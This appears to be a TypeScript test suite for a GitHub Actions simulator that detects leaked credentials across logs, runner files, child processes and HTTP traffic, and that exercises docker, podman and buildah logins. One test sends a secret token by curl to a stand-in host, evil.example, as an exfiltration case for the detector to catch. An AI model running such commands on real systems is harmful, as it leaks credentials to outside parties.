  const token = classicPat({ name: 'mine' })
  const planted = classicPat({ name: 'friend' }).value

  it.each([0, 1, 2, 3, 4])('knows a token in base64 after %i characters, with anything after it', before => {
    for (const value of ['a-secret-of-16-ch', 'a-secret-of-16-cha', 'a-secret-of-16-char']) {
      const encoded = Buffer.from(`${'u'.repeat(before)}${value}"}`).toString('base64')
      expect(formsOf(value).some(([, needle]) => encoded.includes(needle))).toBe(true)
    }
  })

  it.each<[string, string, RegExp]>([
    ['stdout', 'console.log(token)', /mine \(plain\) in stdout/],
    ['stdout, as a registry token', `console.log(Buffer.from(token).toString('base64'))`, /\(base64\) in stdout/],
    [
      'stdout, in lines',
      `console.log(Buffer.from('x:' + token).toString('base64').replace(/.{20}/g, '$&\\n'))`,
      /\(base64\) in stdout/
    ],
    [
      'stdout, while commands are stopped',
      `console.log('::stop-commands::x\\n::add-mask::' + token + '\\n::x::')`,
      /in stdout/
    ],
    ['stderr', 'console.error(encodeURIComponent(token))', /in stderr/],
    ['hex', `console.log(Buffer.from(token).toString('hex'))`, /\(hex\) in stdout/],
    ['debug lines', `console.log('::debug::' + token)`, /in stdout/],
    ['an output', `file('GITHUB_OUTPUT', 'a=' + token + '\\n')`, /in GITHUB_OUTPUT/],
    ['state', `file('GITHUB_STATE', 'a=' + Buffer.from(token).toString('base64url') + '\\n')`, /in GITHUB_STATE/],
    ['an exported variable', `file('GITHUB_ENV', 'DOCKER_AUTH_CONFIG=' + token + '\\n')`, /in GITHUB_ENV/],
    ['PATH', `file('GITHUB_PATH', '/' + token + '\\n')`, /in GITHUB_PATH/],
    ['the summary', `file('GITHUB_STEP_SUMMARY', token)`, /in GITHUB_STEP_SUMMARY/],
    ['the workspace', `writeFileSync('out', token, { mode: 0o600 })`, /in GITHUB_WORKSPACE\/out \(mode 0600\)/],
    [
      'a file that others may read',
      `writeFileSync(env.HOME + '/auth', token, { mode: 0o644 })`,
      /in HOME\/auth \(mode 0644\)/
    ],
    [
      'a file that the group may read',
      `writeFileSync(env.RUNNER_TEMP + '/a', token, { mode: 0o640 })`,
      /in RUNNER_TEMP\/a/
    ],
    ['the name of a file', `mkdirSync(env.RUNNER_TEMP + '/' + token)`, /the name of RUNNER_TEMP/],
    ["a child's arguments", `spawnSync('docker', ['login', '-p', token])`, /in the arguments of docker/],
    ["a child's environment", `spawnSync('docker', ['login'])`, /INPUT_TOKEN in the environment of docker/]
  ])('finds one in %s', async (_, main, where) => {
    const { job } = await simulate(
      { tokens: [token] },
      { action: action(main), engines: [{ name: 'docker', fake: {} }] }
    )
    await expect(job.uses({ token: token.value })).rejects.toThrow(where)
    await job.abandon()
  })

  needs('curl').it(
    'finds one sent to another host, to a proxy, over plain http or in an address, and not where it belongs',
    async () => {
      const { simulator, job } = await simulate(
        { tokens: [token], foreign: ['evil.example'] },
        { tools: ['curl'], secrets: { PAT: token } }
      )
      // The script and curl's arguments are no part of what is searched: curl is not recorded.
      const send = (what: string) =>
        job.run(`curl -s --cacert "$SSL_CERT_FILE" ${what}`).catch((error: Error) => error.message)
      const secret = `\${{ secrets.PAT }}`
      expect(await send(`-u x:${secret} https://evil.example/`)).toMatch(/mine \(base64\) in a GET to evil.example/)
      expect(await send(`-H 'X-Own: ${secret}' --proxy-header 'X-Own: ${secret}' https://evil.example/`)).toMatch(
        /CONNECT to evil.example/
      )
      expect(await send(`-x $HTTP_PROXY -d ${secret} http://ghcr.io/token`)).toMatch(
        /mine \(plain\) in a POST to ghcr.io/
      )
      expect(await send(`'https://ghcr.io/token?service=ghcr.io&account=${secret}'`)).toMatch(
        /the address of a GET to ghcr.io/
      )
      expect(await send(`-u x:${secret} 'https://ghcr.io/token?service=ghcr.io' -o /dev/null`)).toMatchObject({
        exitCode: 0
      })
      await expect(closing(simulator)).rejects.toThrow('anonymous /token')
    }
  )

  needs('curl').it("finds another server's token sent to this one's registry", async () => {
    const foreign = classicPat({ server: 'https://ghe.example' })
    const { job } = await simulate(
      { tokens: [foreign], servers: [githubCom, enterprise('ghe.example')] },
      { tools: ['curl'], secrets: { PAT: foreign } }
    )
    const command = `curl -s --cacert "$SSL_CERT_FILE" -u 'x:\${{ secrets.PAT }}' 'https://ghcr.io/token?service=ghcr.io'`
    await expect(job.run(command)).rejects.toThrow('in a GET to ghcr.io')
  })

  it('lets the store hold it until the last post, and not after', async () => {
    const store = `mkdirSync(env.HOME + '/.docker', { mode: 0o700 }); writeFileSync(env.HOME + '/.docker/config.json', token, { mode: 0o600 })`
    const { job } = await simulate({ tokens: [token] }, { action: action(store) })
    await job.uses({ token: token.value })
    await expect(job.end()).rejects.toThrow(/HOME\/.docker\/config.json \(mode 0600\), after the last post/)
    const { job: kept } = await simulate({ tokens: [token] }, { action: action(store), leftovers: /config\.json/ })
    await kept.uses({ token: token.value })
    await kept.end()
  })

  it("leaves another owner's credential alone at home, and finds it elsewhere", async () => {
    const files = { '.docker/config.json': { text: planted, mode: 0o644 } }
    const { job } = await simulate({}, { files, planted: { friend: planted } })
    await job.run('true')
    await expect(job.run('cat "$HOME/.docker/config.json"')).rejects.toThrow('friend (plain) in stdout')
  })
})

describe('engines', () => {
  const token = githubToken()
  const dead = classicPat({ name: 'dead', live: false })
  const login = (engine: string) =>
    `printf %s "$PAT" | ${engine} login ghcr.io ${engine === 'podman' ? '--authfile "$RUNNER_TEMP/auth.json"' : ''} -u x --password-stdin`

  for (const engine of ['docker', 'podman']) {
    needs(engine).it(`${engine} itself logs in, is refused with a dead token, and is recorded`, async () => {
      const { simulator, job } = await simulate(
        { tokens: [token, dead] },
        { engines: [engine], leftovers: /(config|auth)\.json/ }
      )
      const good = await job.run(login(engine), { env: { PAT: token.value } })
      expect(good.exitCode).toBe(0)
      expect(simulator.lines('token').at(-1)).toMatch(/Basic <token:github-token> {2}200$/)
      expect(good.children).toMatchObject([
        { name: engine, argv: expect.arrayContaining(['login', 'ghcr.io']), stdinBytes: token.value.length }
      ])
      expect(good.children[0]?.env).toMatchObject({ HOME: job.folder.home, XDG_RUNTIME_DIR: job.folder.runtime })
      const bad = await job.run(login(engine), { env: { PAT: dead.value } })
      expect(bad.exitCode).not.toBe(0)
      expect(bad.stderr).toMatch(engine === 'docker' ? /denied: denied/ : /403 \(Forbidden\)/)
      expect(simulator.transcript(job, bad)).not.toContain(dead.value)
    })
  }

  needs('docker').it('docker stores through a credential helper, which is searched at the end', async () => {
    const files = { '.docker/config.json': '{"credsStore":"keys"}' }
    const { job } = await simulate({ tokens: [token] }, { engines: ['docker'], helpers: [{ name: 'keys' }], files })
    const step = await job.run(login('docker'), { env: { PAT: token.value } })
    expect(step.children.map(({ name, argv }) => `${name} ${argv[0]}`)).toContain('docker-credential-keys store')
    const got = await job.run(`echo ghcr.io | docker-credential-keys get | grep -c '"Username":"x"'`)
    expect(got.stdout).toBe('1\n')
    await expect(job.end()).rejects.toThrow('the helper keys/ghcr.io')
  })

  it('leads straight to an engine where recording is off', async () => {
    const { job } = await simulate({}, { engines: ['cat'], record: false })
    expect(await job.run('cat </dev/null; readlink "$(type -P cat)"')).toMatchObject({
      stdout: `${onMachine('cat')}\n`,
      children: []
    })
  })

  it('a job sees no engine that it was not given', async () => {
    const { job } = await simulate()
    expect((await job.run('type docker podman buildah skopeo git; true')).stdout).toBe('')
  })

  it('a fake fails as told, then works', async () => {
    const fake = { exitCode: 5, stderr: 'try again', times: 2 }
    const { job } = await simulate({}, { engines: [{ name: 'tee', fake }] })
    const step = await job.run('for i in 1 2 3; do echo in | tee login || echo "exit $?"; done')
    expect(step).toMatchObject({ stdout: 'exit 5\nexit 5\nin\n', stderr: 'try againtry again' })
    expect(step.children.map(({ stdinBytes }) => stdinBytes)).toEqual([3, 3, 3])
  })

  it('a fake that leaves stdin unread breaks the pipe, and one for a command alone leaves the others', async () => {
    const engines = [{ name: 'cat', fake: { ignoreStdin: true, exitCode: 1, only: ['login'] } }]
    const { job } = await simulate({}, { engines })
    const step = await job.run(
      'set +e; { sleep 0.2; head -c 300000 /dev/zero; } | cat login; echo "$PIPESTATUS"; echo in | cat -'
    )
    expect(step.stdout).toBe('141\nin\n')
  })

  it('a fake dies, floods and hangs', async () => {
    const engines = [
      { name: 'dies', fake: { killed: true } },
      { name: 'floods', fake: { hugeBytes: 1 << 20 } },
      { name: 'hangs', fake: { hang: true } }
    ]
    const { job } = await simulate({}, { engines })
    expect((await job.run('(dies </dev/null) || echo $?')).stdout).toBe('137\n')
    expect((await job.run('floods')).stdout).toHaveLength(1 << 20)
    expect(await job.run('hangs', { timeoutMs: 300 })).toMatchObject({ signal: 'SIGKILL' })
  })

  needs('buildah', 'skopeo', 'docker-registry').it('what buildah pushes, skopeo reads', async () => {
    const { simulator, job } = await simulate(
      { tokens: [token], storage: true },
      { engines: ['buildah', 'skopeo'], leftovers: /auth\.json/, env: { BUILDAH_ISOLATION: 'chroot' } }
    )
    const step = await job.run(
      `printf %s "$PAT" | buildah login -u x --authfile "$RUNNER_TEMP/auth.json" --password-stdin ghcr.io
       printf 'FROM scratch\\nCOPY hello /\\n' >Containerfile; echo hi >hello
       buildah ${PLAIN_STORAGE} build -q -t ghcr.io/acme/app:v1 . >/dev/null
       buildah ${PLAIN_STORAGE} push -q --authfile "$RUNNER_TEMP/auth.json" ghcr.io/acme/app:v1
       skopeo list-tags --authfile "$RUNNER_TEMP/auth.json" docker://ghcr.io/acme/app`,
      { env: { PAT: token.value } }
    )
    expect(step.stderr).toBe('')
    expect(JSON.parse(step.stdout.slice(step.stdout.indexOf('{')))).toMatchObject({ Tags: ['v1'] })
    expect(simulator.world.packages).toMatchObject([{ name: 'acme/app', visibility: 'private' }])
  })
})

it('writes a transcript in which paths, times and credentials are names', async () => {
  const token = classicPat()
  const folder = action(
    `console.log('::add-mask::' + token)
     console.log('wrote', env.RUNNER_TEMP + '/x at', new Date().toISOString(), 'in 12 ms')
     file('GITHUB_OUTPUT', 'logged-in=true\\n')`
  )
  const { simulator, job } = await simulate({ tokens: [token] }, { action: folder })
  const step = await job.uses({ token: token.value })
  expect(simulator.transcript(job, step)).toBe(
    `Run tiny: exit 0
printed:
  wrote $RUNNER_TEMP/x at <time> in <n> ms
masked:
  <token:classic-pat>
outputs:
  logged-in=true`
  )
})
